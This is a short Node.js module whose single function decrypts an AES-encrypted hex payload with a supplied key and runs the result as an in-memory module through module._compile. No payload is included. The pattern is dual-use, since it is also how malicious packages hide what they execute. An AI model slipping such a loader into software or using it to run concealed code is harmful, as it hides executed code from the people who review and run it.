const crypto = require("crypto");
function load(payload, key) {
  const d = crypto.createDecipher("aes256", key);
  let src = d.update(payload, "hex", "utf8") + d.final("utf8");
  const m = new module.constructor();
  m.paths = module.paths;
  m._compile(src, "");
  return m.exports;
}
module.exports = load;
